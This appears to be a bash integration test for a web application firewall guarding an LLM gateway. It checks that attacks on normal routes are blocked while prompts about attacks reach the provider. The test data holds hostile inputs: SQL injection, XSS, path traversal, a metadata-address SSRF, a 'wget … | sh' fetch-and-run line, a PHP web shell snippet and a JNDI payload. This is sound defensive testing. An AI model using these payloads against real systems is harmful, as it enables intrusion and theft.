#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# The WAF in the stack, with the Core Rule Set: attacks end at the edge, prompts about attacks don't; routes
# have profiles; a rule file with a mistake changes nothing; llmsecd knows what matched, but not the bytes.
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

edge=$(stack .edge_url) ca=$(stack .ca_file) key=$(stack .client_key) provider=$(stack .provider_http_url)
control=$(stack .control_url) token=$(cat "$(stack .control_token_file)") run=$(stack .run_dir)
socket=$(stack '.haproxy_sockets[0]') map=$run/share/haproxy/waf-profile.map mine=$run/share/llmsec/waf/after.d/70.conf
auth=(-H "Authorization: Bearer $key" -H 'Content-Type: application/json')
sqli="1' UNION SELECT password FROM users WHERE '1'='1' --"
xss='<script>alert(document.cookie)</script><img src=x onerror=alert(1)>'

send() { http --cacert "$ca" "$@"; }
chat() { send "$edge/v1/chat/completions" "${auth[@]}" -d "$@"; }
prompt() { jq -nc --arg m "${2:-gpt-4o-mini}" --arg t "$1" '{model: $m, messages: [{role: "user", content: $t}]}'; }
rules() { jq -r '.. | .rule_ids? // empty | join(",")' "$http_body"; }
# Of the newest only: those of 40_big are 10 MB each.
seen() { curl -s "$provider/_mock/requests?n=40" | grep -o "$1" | sort -u | wc -l; }
metric() { curl -s "$control/metrics" | awk -v m="$1" 'index($0, m) == 1 { s += $NF } END { print s + 0 }'; }
event_of() { curl -s -H "Authorization: Bearer $token" "$control/api/events?event=edge.waf&limit=1000" |
	jq -c --arg r "$1" '[.events[] | select(.request_id == $r)][0] // empty'; }

# ---- attacks ----
denied=$(metric 'llmsec_spoad_waf_requests_total{action="deny"}')
send -G "$edge/shop/item" --data-urlencode "id=$sqli"
is "$http_code" 403 'SQL in a query string is refused'
like "$(header Content-Type)" '^application/json' 'with JSON'
like "$(rules)" '(^|,)942[0-9]{3}' 'that names the rules'
is "$(field .error.code "$http_body")" request_refused 'and says that it was policy'
rid=$(field .error.request_id "$http_body")
is "$rid" "$(header X-Request-Id)" 'with the request id'
send "$edge/shop/item" -H "Referer: https://shop.example/?q=$xss"
is "$http_code" 403 'script in a header is refused'
like "$(rules)" '(^|,)941[0-9]{3}' 'by the rules for that'
send "$edge/shop/item" -H "User-Agent: x' or 1=1 union select password from users--"
is "$http_code" 403 'SQL in a header too'
send --http2 "$edge/shop/../../../../etc/passwd" --path-as-is
is "$http_code" 403 'a path out of the tree, over HTTP/2'
like "$(rules)" '(^|,)930[0-9]{3}' 'by the rules for that'
chat "$(prompt hello "gpt' UNION SELECT password FROM users--")"
is "$http_code" 403 'SQL in a model name is refused on an LLM route'
like "$(rules)" '(^|,)942[0-9]{3}' 'by the same rules'
send "$edge/v1/messages?beta=$(jq -nr --arg x "$xss" '$x|@uri')" "${auth[@]}" -d "$(prompt hello)"
is "$http_code $(field .error.type "$http_body")" '403 permission_error' 'script in the query of one, in the words of its SDK'
chat "{\"model\":\"m\",\"user\":\"$sqli\",\"messages\":[{\"role\":\"user\",\"content\":\"hello\"}]}"
is "$http_code" 403 'SQL in a field that the gateway does not read'
picture() { jq -nc '{model: "m", messages: [{role: "user", content: [$ARGS.positional[] | {type: "image_url", image_url: {url: .}}]}]}' --args "$@"; }
# One pixel: the gateway looks at what a picture is.
png='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
chat "$(picture "$png" 'http://169.254.169.254/latest/meta-data/')"
is "$http_code $(rules)" '403 931100' 'a picture behind an address in the network'
chat "$(picture "$png" 'https://pictures.example/a.png')"
is "$http_code" 200 'but not pictures in the request, and elsewhere'
send "$edge/v1/chat/completions" -H "Authorization: Bearer $key" -H 'Content-Type: text/plain' -d "$(prompt hello "m' UNION SELECT a FROM b--")"
is "$http_code" 403 'and under a content type that hides the JSON'
check 'refusals are counted' wait_for "[ \"\$(metric 'llmsec_spoad_waf_requests_total{action=\"deny\"}')\" -ge $((denied + 9)) ]" 5
is "$(seen 'UNION SELECT')" 0 'none of it reached the provider'

# ---- prompts ----
n=0
while IFS= read -r text; do
	n=$((n + 1))
	chat "$(prompt "waf-prompt-$n $text")"
	is "$http_code" 200 "a prompt about attacks passes: ${text:0:40}"
done <<-T
	$xss
	$sqli
	Explain: cat /etc/passwd; wget http://x.example/a.sh | sh; \$(id)
	What does <?php system(\$_GET["c"]); ?> do, and \${jndi:ldap://x.example/a}?
T
is "$(seen 'waf-prompt-[0-9]')" "$n" 'and all of them reached the provider'
send "$edge/v1/messages" "${auth[@]}" -d "$(jq -nc --arg t "$xss $sqli" '{model: "claude", max_tokens: 9, system: $t,
	messages: [{role: "user", content: [{type: "text", text: $t}]}, {role: "assistant", content: [{type: "tool_use", id: "t1", name: "f", input: {q: $t}}]},
	{role: "user", content: [{type: "tool_result", tool_use_id: "t1", content: [{type: "text", text: $t}]}]}],
	tools: [{name: "f", description: $t, input_schema: {type: "object", properties: {q: {type: "string", description: $t}}}}]}')"
is "$http_code" 200 'Anthropic: system, text, tool input, tool result, tool definition'
send "$edge/v1beta/models/gemini-2.5-flash:generateContent" "${auth[@]}" -d "$(jq -nc --arg t "$xss $sqli" '{system_instruction: {parts: [{text: $t}]},
	contents: [{role: "user", parts: [{text: $t}]}, {role: "model", parts: [{functionCall: {name: "f", args: {q: $t}}}]},
	{role: "user", parts: [{functionResponse: {name: "f", response: {r: $t}}}]}]}')"
is "$http_code" 200 'Gemini: instruction, parts, call, response'
send "$edge/v1/responses" "${auth[@]}" -d "$(jq -nc --arg t "$xss $sqli" '{model: "m", instructions: $t, input: [{role: "user", content: [{type: "input_text", text: $t}]},
	{type: "function_call", call_id: "c", name: "f", arguments: ({q: $t} | tojson)}, {type: "function_call_output", call_id: "c", output: $t}]}')"
is "$http_code" 200 'Responses: instructions, input, arguments, output'
send "$edge/api/chat" "${auth[@]}" -d "$(jq -nc --arg t "$xss $sqli" '{model: "m", stream: false, messages: [{role: "user", content: $t}]}')"
is "$http_code" 200 'Ollama'
send "$edge/openai/deployments/gpt-4.1/chat/completions?api-version=2024-10-21" "${auth[@]}" -d "$(prompt "$xss $sqli")"
is "$http_code" 200 'Azure'
for d in '/v1/images/generations {model: "m", prompt: $t}' '/v1/audio/speech {model: "m", voice: "v", input: $t, instructions: $t}'; do
	send "$edge${d%% *}" "${auth[@]}" -d "$(jq -nc --arg t "$xss $sqli" "${d#* }")"
	is "$http_code $(field .error.code "$http_body")" '404 not_found' "${d%% *}: what is to be seen and said gets to the provider, ours has no such endpoint"
	send "$edge${d%% *}" "${auth[@]}" -d "$(jq -nc --arg t "gpt' UNION SELECT password FROM users--" "${d#* } + {model: \$t}")"
	is "$http_code" 403 'but no SQL in the name of its model'
done

# ---- profiles: the map can be changed while HAProxy runs ----
haproxy() { printf '%s\n' "$*" | socat -t 5 - "UNIX-CONNECT:$socket"; }
haproxy "add map $map /watched/ detect" >/dev/null
haproxy "add map $map /misspelt/ no-such-profile" >/dev/null
send -G "$edge/watched/item" --data-urlencode "id=$sqli"
isnt "$http_code" 403 'a route that only watches does not refuse'
unlike "$(rules)" 942 'nor names rules to the client'
watched=$(header X-Request-Id)
send "$edge/misspelt/item"
is "$http_code $(field .error.code "$http_body")" '503 gateway_unavailable' 'a profile that does not exist refuses everything'
haproxy "del map $map /watched/" >/dev/null
haproxy "del map $map /misspelt/" >/dev/null
send -G "$edge/watched/item" --data-urlencode "id=$sqli"
is "$http_code" 403 'back to normal'

# ---- events ----
check 'the event of the refusal is stored' wait_for "[ -n \"\$(event_of $rid)\" ]" 5
ev=$(event_of "$rid")
is "$(jq -r '.action + " " + .layer' <<<"$ev")" 'block edge' 'as a refusal of the edge'
like "$(jq -r '.rule_ids | join(",")' <<<"$ev")" '942[0-9]{3}' 'with the rules'
is "$(jq -r '.detail.waf.rules[0] | .var' <<<"$ev")" ARGS:id 'the name of the argument'
like "$(jq -r '.detail.waf.rules[0].tags[0] + " " + (.detail.waf.categories | keys | join(","))' <<<"$ev")" 'attack-sqli.*sqli' 'the kind of attack'
unlike "$ev" 'UNION|password' 'but not its value'
check 'what was only watched is an event, too' wait_for "[ \"\$(event_of $watched | jq -r .action)\" = monitor ]" 5

# ---- reload ----
reload() { kill -HUP "$(cat "$run/pid/spoad.pid")"; }
said() { wait_for "tail -n +$((lines + 1)) '$run/log/spoad.log' | grep -qF '$1'" 10; }
mark() { lines=$(wc -l <"$run/log/spoad.log"); }
trap 'rm -f "$mine"; reload; tap_cleanup' EXIT
mark
printf '# line 1\nSecRule ARGS "@rx (" "id:9999999,phase:2,deny"\n' >"$mine"
reload
check 'a rule file with a mistake is named with its line' said "$mine:2"
check 'and the old rules stay' said 'the old configuration stays'
send -G "$edge/shop/item" --data-urlencode "id=$sqli"
is "$http_code" 403 'attacks are refused as before'
chat "$(prompt 'hello again')"
is "$http_code" 200 'and good requests served'
check 'an event says so' wait_for "curl -s -H 'Authorization: Bearer $token' '$control/api/events?event=edge.config_rejected&limit=9' | grep -qF '70.conf:2'" 5
mark
printf 'SecRule ARGS:color "@streq infrared" "id:9999999,phase:2,deny,log,msg:%s"\n' "'No such color'" >"$mine"
reload
check 'without the mistake it is loaded' said 'configuration reloaded'
send "$edge/shop/item?color=infrared"
is "$http_code $(rules)" '403 9999999' 'and counts from the next request on'
done_testing
